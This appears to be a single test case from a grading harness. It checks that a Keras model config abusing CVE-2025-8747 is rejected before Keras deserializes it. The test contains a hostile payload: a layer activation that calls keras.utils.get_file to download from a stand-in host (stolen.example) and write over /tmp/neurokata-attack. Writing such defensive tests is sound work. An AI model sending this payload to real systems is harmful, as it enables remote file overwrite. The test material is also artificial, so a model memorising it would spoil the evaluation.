"""A config that names a function of Keras's own (as in CVE-2025-8747).

Tries: have keras.utils.get_file fetch a file and write it over another.
Must happen: the message is refused before any code of Keras sees it.

with: forge, specs
earns: 0
says: could not be read
"""

def build_mlp(input_dim, hidden, n_classes, activation):
    config = {"fname": "/tmp/neurokata-attack", "origin": "http://stolen.example/x", "extract": True}
    function = {"module": "keras.utils", "class_name": "get_file", "config": config}
    give(sequential(dense(784, 10, activation=function)))
